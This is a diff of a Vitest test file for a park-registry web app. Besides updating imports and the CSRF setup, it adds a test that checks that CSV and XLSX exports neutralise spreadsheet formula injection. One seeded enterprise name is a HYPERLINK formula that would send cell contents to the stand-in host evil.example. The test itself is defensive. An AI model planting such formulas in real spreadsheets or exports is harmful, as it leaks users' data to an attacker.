@@ -1,11 +1,13 @@
+import ExcelJS from "exceljs";
 import { beforeAll, describe, expect, it } from "vitest";
 import { action as editAction } from "~/routes/registries.$kind.$id.edit";
-import { exportRegistry } from "~/services/registries/export.server";
-import { listRegistry, saveRecord } from "~/services/registries/registry.server";
+import { exportRegistry } from "~/services/registry/export.server";
+import { listRegistry, saveRecord } from "~/services/registry/registry.server";
 import { readOrIssueCsrfToken } from "~/utils/csrf.server";
 import { type Principal, principalOfAccount } from "~/utils/principal.server";
 import { startSession } from "~/utils/session.server";
 import { prisma } from "~/utils/db.server";
+import { readTable } from "~/utils/tabular.server";
 import { buildRegistry, createAccount } from "./fixtures";
 
 let registry: Awaited<ReturnType<typeof buildRegistry>>;
@@ -82,8 +84,8 @@ describe("a park administrator", () => {
     expect(error.status).toBe(403);
 
     const account = await prisma.account.findUniqueOrThrow({ where: { login: "park-admin" } });
-    const csrf = await readOrIssueCsrfToken(new Request("http://app/"));
-    const cookie = `${cookiePair(await startSession(account.id))}; ${cookiePair(csrf.setCookie!)}`;
+    const cookie = cookiePair(await startSession(account.id));
+    const csrf = await readOrIssueCsrfToken(new Request("http://app/", { headers: { Cookie: cookie } }));
     const body = new URLSearchParams({ _csrf: csrf.token, ...baseFields(otherPairing.id, "改名") });
     const response = (await thrown(
       editAction({
@@ -182,6 +184,25 @@ describe("lists", () => {
     expect(text.startsWith("\uFEFF基地名称,所属园区")).toBe(true);
     expect(text).toContain("进贤焊接实训基地");
     expect(text).not.toContain("小蓝数控实训基地");
+  });
+
+  it("writes an enterprise name that looks like a formula as text in the province's export", async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
+    await prisma.enterprise.create({
+      data: { creditCode: "913601000000350022", name, parkId: registry.otherPark.id, clusterRole: "supporting", headcount: 10 },
+    });
+    const csv = await exportRegistry({ principal: province, kind: "enterprises", params: new URLSearchParams({ format: "csv" }) });
+    const table = await readTable(csv.body, "export.csv");
+    const cells = table.rows.flatMap((r) => r.cells).filter((c) => c.includes("HYPERLINK"));
+    expect(cells).toEqual([`'${name}`]);
+    const xlsx = await exportRegistry({ principal: province, kind: "enterprises", params: new URLSearchParams({ format: "xlsx" }) });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
+    const values: ExcelJS.CellValue[] = [];
+    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void values.push(cell.value)));
+    const hyperlink = values.filter((v) => JSON.stringify(v).includes("HYPERLINK"));
+    // A string cell, not a { formula } cell: the spreadsheet shows the text and runs nothing.
+    expect(hyperlink).toEqual([name]);
   });
 
   it("shows secondments only to the parties involved", async () => {
